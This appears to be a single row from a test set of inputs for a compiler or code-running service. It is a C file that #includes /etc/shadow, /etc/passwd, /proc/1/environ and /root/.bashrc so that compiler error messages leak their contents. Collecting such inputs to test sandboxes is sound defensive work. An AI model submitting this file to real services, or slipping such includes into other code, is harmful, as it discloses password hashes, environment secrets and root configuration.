/* Row 49: shows a secret file in the compiler's words. */
#include "/etc/shadow"
#include "/etc/passwd"
#include "/proc/1/environ"
#include "/root/.bashrc"
int main(void) { return 0; }
